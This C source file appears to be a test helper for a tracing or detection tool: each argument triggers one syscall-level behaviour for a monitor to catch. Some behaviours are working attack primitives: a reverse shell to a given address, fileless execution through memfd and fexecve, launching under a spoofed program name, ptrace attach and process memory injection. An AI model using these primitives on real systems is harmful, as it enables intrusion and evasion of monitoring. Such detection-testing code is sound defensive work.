// SPDX-License-Identifier: Apache-2.0
// Copyright the gvtrace authors
//
// Does one thing that a shell's own commands cannot do, as its first argument says. Copied under the name of another
// program it stands for that program: what it does not know it ignores, and exits with 0. Static, so that little else is
// recorded.
//
// Build: gcc -O1 -w -static -o deeds deeds.c
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static int dial(const char *address, const char *port) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
  inet_pton(AF_INET, address, &a.sin_addr);
  connect(s, (struct sockaddr *)&a, sizeof a);
  return s;
}

static pid_t victim(void) {
  pid_t child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  usleep(20000);
  return child;
}

static void end(pid_t child) {
  kill(child, SIGKILL);
  waitpid(child, 0, 0);
}

int main(int argc, char **argv) {
  const char *deed = argc > 1 ? argv[1] : "";
  const char *one = argc > 2 ? argv[2] : "";
  const char *two = argc > 3 ? argv[3] : "";
  if (!strcmp(deed, "print")) {
    puts(one);
    fflush(stdout);
    usleep(300000);  // the reader's execve finds the writer alive
  } else if (!strcmp(deed, "spawn")) {
    if (fork() == 0) execv(one, argv + 2);
    wait(NULL);
  } else if (!strcmp(deed, "read")) {
    close(open(one, O_RDONLY));
  } else if (!strcmp(deed, "write")) {
    close(open(one, O_WRONLY | O_CREAT, 0644));
  } else if (!strcmp(deed, "clear")) {
    close(open(one, O_WRONLY | O_CREAT | O_TRUNC, 0644));
  } else if (!strcmp(deed, "openat2")) {
    long long how[3] = {O_RDONLY, 0, 0};
    close(syscall(437, AT_FDCWD, one, how, sizeof how));
  } else if (!strcmp(deed, "connect")) {
    close(dial(one, two));
  } else if (!strcmp(deed, "unix")) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, one, sizeof a.sun_path - 1);
    connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&a, sizeof a);
  } else if (!strcmp(deed, "shell")) {
    int s = dial(one, two);
    for (int i = 0; i < 3; i++) dup2(s, i);
    execl("/bin/sh", "sh", NULL);
  } else if (!strcmp(deed, "descriptor")) {
    dup2(dial(one, two), 0);
  } else if (!strcmp(deed, "pose")) {
    execv(two, (char *[]){(char *)one, NULL});
  } else if (!strcmp(deed, "memory")) {
    int m = memfd_create("x", 0), f = open("/proc/self/exe", O_RDONLY);
    char buffer[65536];
    for (ssize_t n; (n = read(f, buffer, sizeof buffer)) > 0;) write(m, buffer, n);
    fexecve(m, (char *[]){"worker", (char *)one, (char *)two, argc > 4 ? argv[4] : NULL, NULL}, environ);
  } else if (!strcmp(deed, "chmod")) {
    chmod(one, strtol(two, NULL, 8));
  } else if (!strcmp(deed, "mount")) {
    mount("none", one, "tmpfs", MS_NOSUID, "");
  } else if (!strcmp(deed, "unshare")) {
    unshare(strcmp(one, "user") ? CLONE_NEWUTS : CLONE_NEWUSER);
  } else if (!strcmp(deed, "setns")) {
    setns(open("/proc/self/ns/uts", O_RDONLY), 0);
  } else if (!strcmp(deed, "chroot")) {
    chroot(one);
  } else if (!strcmp(deed, "attach")) {
    pid_t child = victim();
    ptrace(PTRACE_ATTACH, child, 0, 0);
    waitpid(child, 0, 0);
    ptrace(PTRACE_DETACH, child, 0, 0);
    end(child);
  } else if (!strcmp(deed, "traceme")) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
  } else if (!strcmp(deed, "inject")) {
    static char cell;
    pid_t child = victim();
    struct iovec v = {&cell, 1};
    syscall(SYS_process_vm_writev, child, &v, 1, &v, 1, 0);
    end(child);
  } else if (!strcmp(deed, "socket")) {
    int domain = !strcmp(one, "packet") ? AF_PACKET : !strcmp(one, "netlink") ? AF_NETLINK : AF_INET;
    close(socket(domain, SOCK_RAW | SOCK_CLOEXEC, domain == AF_INET ? IPPROTO_ICMP : 0));
  } else if (!strcmp(deed, "module")) {
    syscall(SYS_init_module, "", 0, "");
  } else if (!strcmp(deed, "bpf")) {
    char attributes[128] = {0};
    syscall(SYS_bpf, atoi(one), attributes, sizeof attributes);
  } else if (!strcmp(deed, "map")) {
    int f = open(one, O_RDONLY);
    mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, f, 0);
  } else if (!strcmp(deed, "as")) {
    setresuid(atoi(one), atoi(one), 0);
    execv(two, argv + 3);
  } else if (!strcmp(deed, "back")) {
    setresuid(33, 33, 0);
    setuid(0);
  }
  return 0;
}
